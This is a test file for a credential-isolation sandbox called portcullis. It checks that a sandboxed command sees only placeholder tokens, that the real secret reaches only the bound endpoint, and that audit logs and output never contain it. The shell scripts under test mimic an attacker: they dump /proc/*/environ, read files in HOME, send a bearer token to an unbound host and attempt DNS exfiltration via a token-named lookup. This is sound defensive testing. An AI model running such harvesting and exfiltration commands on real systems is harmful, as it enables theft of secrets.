// `portcullis run` with a secret in portcullis's own environment: CMD gets the placeholder in
// GITHUB_TOKEN, never the value; its /proc/*/environ, the run's files it can read (the
// credential's source file is covered) and its HOME hold no value; curl with the placeholder
// reaches the bound endpoint with the value; the audit file and portcullis's own stdout and
// stderr carry no byte of it.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startSimulatedInternet, type SimulatedInternet } from '../src/sim/internet.js';

const CLI = join(process.cwd(), 'dist/cli/main.js');
const DOCS = '["203.0.113.0/24", "198.51.100.0/24", "2001:db8::/32"]';
const SECRET = `ghp_run${createHash('sha256').update(String(Date.now())).digest('hex').slice(0, 24)}`;
const FILE_SECRET = `file-secret-${createHash('sha256').update(`f${Date.now()}`).digest('hex').slice(0, 20)}`;

let sim: SimulatedInternet;
let work: string;

// Everything CMD can read that could hold a copy: every visible process's environment and
// command line, the run's directory (policy, the credential's file), HOME. Printed, so the
// test can grep portcullis's stdout for the value.
const CMD = `
echo "ENV-$((1+1))-BEGIN"; tr '\\0' '\\n' < /proc/self/environ; echo "ENV-$((1+1))-END"
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < "$f" 2>/dev/null; done
find "$WORK" "$HOME" -type f -readable 2>/dev/null | while read -r f; do echo "FILE $f"; cat "$f"; echo; done
echo "SECRET-FILE-$((1+1))-BEGIN"; cat "$SECRET_FILE" 2>&1; echo "SECRET-FILE-$((1+1))-END"
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "http://creds.runtest.example/echo/run" \\
  | python3 -c 'import hashlib,json,sys; print("AUTH-SHA256", hashlib.sha256(json.load(sys.stdin)["headers"]["authorization"].encode()).hexdigest())'
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "http://open.runtest.example/echo/elsewhere"; echo
getent hosts "$GITHUB_TOKEN.example" || echo "DNS-LOOKUP-FAILED"
`;

beforeAll(async () => {
  sim = await startSimulatedInternet({ hosts: { 'creds.runtest.example': {}, 'open.runtest.example': {} } });
  // Not under /tmp: CMD has a /tmp of its own.
  work = mkdtempSync('/var/tmp/portcullis-cred-run-');
  chmodSync(work, 0o755);
  // Readable by anyone on the host: only the run's cover keeps it from CMD.
  writeFileSync(join(work, 'file-secret'), `${FILE_SECRET}\n`, { mode: 0o644 });
  writeFileSync(
    join(work, 'policy.yaml'),
    `version: 1
credentials:
  github:
    from: env:GITHUB_TOKEN
  filecred:
    from: file:${join(work, 'file-secret')}
network_policies:
  gh:
    endpoints:
      - host: creds.runtest.example
        port: 80
        protocol: rest
        access: full
        allowed_ips: ${DOCS}
        credentials: [github, filecred]
        allow_cleartext_credentials: true
    binaries:
      - path: /usr/bin/curl
  open:
    endpoints:
      - { host: open.runtest.example, port: 80, allowed_ips: ${DOCS} }
`,
    { mode: 0o644 },
  );
}, 60_000);

afterAll(async () => {
  await sim?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

it('CMD holds the placeholder, never the value; the bound endpoint gets the value; no output carries it', async () => {
  const audit = join(work, 'audit.jsonl');
  const child = spawn(process.execPath, [CLI, 'run', '--policy', join(work, 'policy.yaml'), '--resolver', `${sim.dns.address}:${sim.dns.port}`, '--audit', audit, '--', 'sh', '-c', CMD], {
    cwd: work,
    env: { ...process.env, GITHUB_TOKEN: SECRET, GH_TOKEN_COPY: `copy:${SECRET}`, WORK: work, SECRET_FILE: join(work, 'file-secret') },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString('latin1')));
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString('latin1')));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  expect(code, stderr).toBe(0);

  // CMD's own environment: the placeholder under the same name, no copy of the value.
  // (The markers are computed by the shell: the script's own text shows up in /proc/*/cmdline.)
  const env = stdout.slice(stdout.indexOf('ENV-2-BEGIN'), stdout.indexOf('ENV-2-END'));
  expect(env).toMatch(/^GITHUB_TOKEN=portcullis-cred-github-[a-z2-7]{26}$/m);
  expect(env).toMatch(/^filecred=portcullis-cred-filecred-[a-z2-7]{26}$/m);
  expect(env).not.toContain('GH_TOKEN_COPY');
  // The credential's file, readable on the host, is empty inside.
  expect(stdout.slice(stdout.indexOf('SECRET-FILE-2-BEGIN'), stdout.indexOf('SECRET-FILE-2-END'))).toBe('SECRET-FILE-2-BEGIN\n');
  expect(stdout).toContain(`FILE ${join(work, 'policy.yaml')}`);

  // The bound endpoint got the value (the sandbox saw only its hash).
  expect(stdout).toContain(`AUTH-SHA256 ${createHash('sha256').update(`Bearer ${SECRET}`).digest('hex')}`);
  // Another host: refused, by name.
  expect(stdout).toContain('"error":"credential_not_bound"');

  // Not one byte of either value in anything CMD could read, nor in portcullis's output or audit.
  for (const value of [SECRET, FILE_SECRET]) {
    expect(stdout).not.toContain(value);
    expect(stderr).not.toContain(value);
    expect(readFileSync(audit, 'latin1')).not.toContain(value);
  }
  const events = readFileSync(audit, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  expect(events.find((e) => e.kind === 'credential_misuse' && e.via === 'http')).toMatchObject({ credentials: ['github'], host: 'open.runtest.example', binary: '/usr/bin/curl' });
  // A DNS query for <placeholder>.example: REFUSED by the run's DNS proxy, audited by name.
  expect(stdout).toContain('DNS-LOOKUP-FAILED');
  expect(events.find((e) => e.kind === 'credential_misuse' && e.via === 'dns')).toMatchObject({ credentials: ['github'], rcode: 'REFUSED' });
  expect(events.find((e) => e.kind === 'http' && e.host === 'creds.runtest.example')).toMatchObject({ allow: true, credentials: ['filecred', 'github'] });
}, 120_000);

// Inspected HTTPS under `portcullis run`: the run makes its own inspection CA and puts it in
// CMD's trust (curl is given no CA flag); the simulated internet's CA is the upstream CA.
const TLS_CMD = `
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "https://creds.runtest.example/echo/run-tls" \\
  | python3 -c 'import hashlib,json,sys; print("AUTH-SHA256", hashlib.sha256(json.load(sys.stdin)["headers"]["authorization"].encode()).hexdigest())'
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "https://open.runtest.example/echo/elsewhere-tls"; echo
/usr/bin/python3 -c 'import hashlib, os, requests
r = requests.get("https://creds.runtest.example/echo/run-py", headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}, timeout=20)
print("PY-SHA256", hashlib.sha256(r.json()["headers"]["authorization"].encode()).hexdigest())'
node -e 'fetch("https://creds.runtest.example/echo/run-node", { headers: { authorization: "Bearer " + process.env.GITHUB_TOKEN } })
  .then((r) => r.json())
  .then((j) => console.log("NODE-SHA256", require("crypto").createHash("sha256").update(j.headers.authorization).digest("hex")))
  .catch((e) => console.log("NODE-ERROR", e.cause ? e.cause.code : e.message))'
`;

it('inspected HTTPS under run: curl, python requests and node fetch with the placeholder reach the bound endpoint with the value, another host is refused', async () => {
  const policy = join(work, 'policy-tls.yaml');
  writeFileSync(
    policy,
    `version: 1
credentials:
  github:
    from: env:GITHUB_TOKEN
network_policies:
  gh:
    endpoints:
      - host: creds.runtest.example
        port: 443
        protocol: rest
        access: full
        allowed_ips: ${DOCS}
        credentials: [github]
    binaries:
      - path: /usr/bin/curl
      - path: /usr/bin/python3*
      - path: ${process.execPath}
  open:
    endpoints:
      - { host: open.runtest.example, port: 443, allowed_ips: ${DOCS}, tls: inspect }
`,
    { mode: 0o644 },
  );
  const simCa = join(work, 'sim-ca.pem');
  writeFileSync(simCa, sim.ca.certPem, { mode: 0o644 });
  const audit = join(work, 'audit-tls.jsonl');
  const args = [CLI, 'run', '--policy', policy, '--resolver', `${sim.dns.address}:${sim.dns.port}`, '--audit', audit, '--upstream-ca', simCa, '--', 'sh', '-c', TLS_CMD];
  const child = spawn(process.execPath, args, { cwd: work, env: { ...process.env, GITHUB_TOKEN: SECRET }, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString('latin1')));
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString('latin1')));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  expect(code, stderr).toBe(0);
  const valueHash = createHash('sha256').update(`Bearer ${SECRET}`).digest('hex');
  expect(stdout, stderr).toContain(`AUTH-SHA256 ${valueHash}`);
  // python requests goes through HTTPS_PROXY (CONNECT); node's fetch ignores the proxy variables
  // and reaches the SNI listener through the fence's redirect: both inspected, both swapped.
  expect(stdout, stderr).toContain(`PY-SHA256 ${valueHash}`);
  expect(stdout, stderr).toContain(`NODE-SHA256 ${valueHash}`);
  expect(stdout).toContain('"error":"credential_not_bound"');
  expect(stdout).not.toContain(SECRET);
  expect(stderr).not.toContain(SECRET);
  expect(readFileSync(audit, 'latin1')).not.toContain(SECRET);
  const events = readFileSync(audit, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  expect(events.find((e) => e.kind === 'http' && e.host === 'creds.runtest.example')).toMatchObject({ allow: true, tls: true, status: 200, credentials: ['github'] });
  expect(events.find((e) => e.kind === 'credential_misuse')).toMatchObject({ credentials: ['github'], host: 'open.runtest.example', binary: '/usr/bin/curl' });
}, 120_000);
